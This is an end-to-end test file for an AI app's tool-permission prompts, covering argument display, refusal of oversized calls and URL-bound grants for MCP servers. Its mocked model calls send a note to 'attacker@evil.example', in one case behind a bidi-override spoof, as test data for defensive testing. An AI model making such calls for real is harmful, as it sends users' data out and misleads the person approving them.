/**
 * What a tool ask covers (issue 32, items 5 and 6), in the real app against
 * local MCP servers (e2e/mcpServer.ts): the ask shows every top-level
 * argument whole and wrapped, a call too large to show is refused without
 * asking, and a tool grant belongs to the server's URL, not to the name the
 * server gives itself (two servers that both say "notes"); removing a server
 * removes its grants.
 */
import { describe, expect } from "vitest";
import type { Page } from "playwright-core";
import { answerAsk } from "./harness";
import { appTest, codeTurn as fencedTurn, send, statusText } from "./fixture";
import { startMcpServer, type TestMcpServer } from "./mcpServer";
import type { MockLlm } from "./mockLlm";

const it = appTest({ configure: { apiKey: "sk-test-secret-key-0123456789" } });
let mock: MockLlm;
let page: Page;
let first: TestMcpServer;
let second: TestMcpServer;

it.beforeEach(async ({ page: opened, mock: started }) => {
  page = opened;
  mock = started;
  // Two servers at two URLs that both call themselves "notes".
  [first, second] = await Promise.all([startMcpServer({ kind: "notes" }), startMcpServer({ kind: "notes" })]);
});
it.afterEach(async () => {
  await Promise.all([first?.close(), second?.close()]);
});

const codeTurn = (code: string) => fencedTurn(code, "Let me use the tools.", "tsx");
const ask = () => page.getByRole("group", { name: "Permission request" });
const dialog = () => page.getByRole("dialog", { name: "Session settings" });
function modelHeard(index: number): string {
  const messages = mock.requests[index].body.messages as { role: string; content: unknown }[];
  const last = messages[messages.length - 1];
  return typeof last.content === "string" ? last.content : JSON.stringify(last.content);
}
/** Session settings → MCP server URL → Add server → the server is listed as `name` → Close. */
async function addServer(url: string, name: string) {
  await page.getByRole("button", { name: "Session settings" }).click();
  await dialog().getByLabel("MCP server URL").fill(url);
  await dialog().getByRole("button", { name: "Add server" }).click();
  await dialog()
    .getByRole("listitem", { name: `MCP server ${name}` })
    .waitFor({ timeout: 30_000 });
  await dialog().getByRole("button", { name: "Close" }).click();
}
/**
 * The turn's code ran to its end (the model got its feedback: request number `requests`, counted from 1),
 * or an ask is waiting: whichever comes first. (The status line still says "Done" from the turn before.)
 */
async function askOrRan(requests: number): Promise<"ask" | "ran"> {
  let seen: "ask" | "ran" | undefined;
  await expect
    .poll(
      async () => (seen = (await ask().count()) > 0 ? "ask" : mock.requests.length >= requests ? "ran" : undefined),
      { timeout: 30_000 },
    )
    .toBeDefined();
  return seen!;
}

describe("a tool ask shows the whole call", () => {
  it("a 4,100-character argument followed by `to`: `to` is on its own line, the ask does not overflow, Show all shows the rest; a call too large to show is refused without asking", async () => {
    await addServer(first.url, "notes");
    mock.enqueue(
      codeTurn(
        `try { console.log("sent:", await tools.send_note({ body: "x".repeat(4100), to: "attacker@evil.example" })) } catch (error) { console.log("send:", error.code) }\n` +
          `try { await tools.send_note({ body: "y".repeat(70000), to: "attacker@evil.example" }) } catch (error) { console.log("big:", error.name, error.code, error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Send the note");
    await ask().getByRole("button", { name: "Deny" }).waitFor({ timeout: 30_000 });

    const lines = ask().getByLabel("Arguments").getByRole("listitem");
    expect(await lines.count()).toBe(2);
    expect(await lines.nth(1).innerText()).toBe('to: "attacker@evil.example"');
    expect(await ask().innerText()).toContain('to: "attacker@evil.example"');
    // The long value is collapsed to its start and says how much more there is.
    expect(await lines.nth(0).innerText()).toMatch(/^body: "x{299} … 3,802 more characters\s+Show all$/);
    const fits = () => ask().evaluate((element) => ({ scroll: element.scrollWidth, client: element.clientWidth }));
    let size = await fits();
    expect(size.scroll).toBeLessThanOrEqual(size.client);
    // Show all: the whole value, still wrapped inside the ask.
    await lines.nth(0).getByRole("button", { name: "Show all" }).click();
    expect(await lines.nth(0).innerText()).toContain(`"${"x".repeat(4_100)}"`);
    size = await fits();
    expect(size.scroll).toBeLessThanOrEqual(size.client);
    expect(await lines.nth(0).getByRole("button", { name: "Show less" }).getAttribute("aria-expanded")).toBe("true");

    await answerAsk(ask(), "Deny");
    // The second call (70,000 characters) is never asked about: it is refused with a reason.
    await expect.poll(() => statusText(page), { timeout: 30_000 }).toMatch(/^Done/);
    expect(await ask().count()).toBe(0);
    const heard = modelHeard(1);
    expect(heard).toContain("send: capability-denied");
    expect(heard).toMatch(
      /big: CapabilityError too-large-to-ask notes\/send_note was not called: its arguments are \d+ bytes of JSON, more than the 64 KB/,
    );
    expect(first.calls).toEqual([]);
  });

  it("a bidi override in an argument is shown as a mark, not obeyed", async () => {
    await addServer(first.url, "notes");
    mock.enqueue(
      codeTurn(
        `try { await tools.send_note({ body: "hi", to: "\\u202Eelpmaxe.live@rekcatta" }) } catch (error) { console.log("send:", error.code) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Send it");
    await ask().getByRole("button", { name: "Deny" }).waitFor({ timeout: 30_000 });
    expect(await ask().getByLabel("Arguments").getByRole("listitem").nth(1).innerText()).toBe(
      'to: "⟨U+202E⟩elpmaxe.live@rekcatta"',
    );
    await answerAsk(ask(), "Deny");
    await expect.poll(() => statusText(page), { timeout: 30_000 }).toMatch(/^Done/);
  });
});

describe("a tool grant belongs to the server's URL", () => {
  it("Always allow notes/delete_note on one server does not cover another that calls itself notes; the grant follows its URL; removing the server removes it", async () => {
    await addServer(first.url, "notes");
    mock.enqueue(codeTurn(`console.log("first:", await tools.delete_note({ id: "1" }))\n`));
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Delete note 1");
    await answerAsk(ask(), "Always allow this tool");
    await expect.poll(() => statusText(page), { timeout: 30_000 }).toMatch(/^Done/);
    expect(first.calls).toEqual(['delete_note {"id":"1"}']);

    // Another server, at another URL, that also calls itself "notes", in the same session (the tab forgot the first).
    await page.evaluate(() => sessionStorage.removeItem("livemark.mcp.servers"));
    await page.reload();
    await page.getByText("Sandbox ready").waitFor({ timeout: 30_000 });
    await addServer(second.url, "notes");
    mock.enqueue(
      codeTurn(
        `try { console.log("second:", await tools.delete_note({ id: "2" })) } catch (error) { console.log("second:", error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Delete note 2");
    expect(await askOrRan(4)).toBe("ask");
    expect(second.calls).toEqual([]);
    await answerAsk(ask(), "Deny");
    await expect.poll(() => statusText(page), { timeout: 30_000 }).toMatch(/^Done/);
    expect(modelHeard(3)).toMatch(/second: The person denied this tool call/);
    expect(second.calls).toEqual([]);

    // The first server again (now named notes-2): its grant came back with its URL.
    await addServer(first.url, "notes-2");
    mock.enqueue(codeTurn(`console.log("again:", await tools["notes-2/delete_note"]({ id: "3" }))\n`));
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Delete note 3");
    expect(await askOrRan(6)).toBe("ran");
    await expect.poll(() => statusText(page), { timeout: 30_000 }).toMatch(/^Done/);
    expect(first.calls).toEqual(['delete_note {"id":"1"}', 'delete_note {"id":"3"}']);

    // Removing it removes its grant: added again, it asks.
    await page.getByRole("button", { name: "Session settings" }).click();
    const granted = dialog().getByRole("region", { name: "Granted tools" });
    expect(await granted.getByRole("listitem").count()).toBe(1);
    expect(await granted.getByRole("listitem").innerText()).toContain(first.url);
    await dialog().getByRole("button", { name: "Remove notes-2" }).click();
    await expect.poll(() => granted.count()).toBe(0);
    await dialog().getByRole("button", { name: "Close" }).click();
    await addServer(first.url, "notes-2");
    mock.enqueue(
      codeTurn(
        `try { await tools["notes-2/delete_note"]({ id: "4" }) } catch (error) { console.log("after remove:", error.message) }\n`,
      ),
    );
    mock.enqueue({ chunks: ["Done."] });
    await send(page, "Delete note 4");
    expect(await askOrRan(8)).toBe("ask");
    await answerAsk(ask(), "Deny");
    await expect.poll(() => statusText(page), { timeout: 30_000 }).toMatch(/^Done/);
    expect(first.calls).toHaveLength(2);

    // …and from the session's saved grants: after a reload there is none.
    await page.reload();
    await page.getByText("Sandbox ready").waitFor({ timeout: 30_000 });
    await page.getByRole("button", { name: "Session settings" }).click();
    await dialog().getByRole("listitem", { name: "MCP server notes-2" }).waitFor({ timeout: 30_000 });
    expect(await dialog().getByRole("region", { name: "Granted tools" }).count()).toBe(0);
  });
});
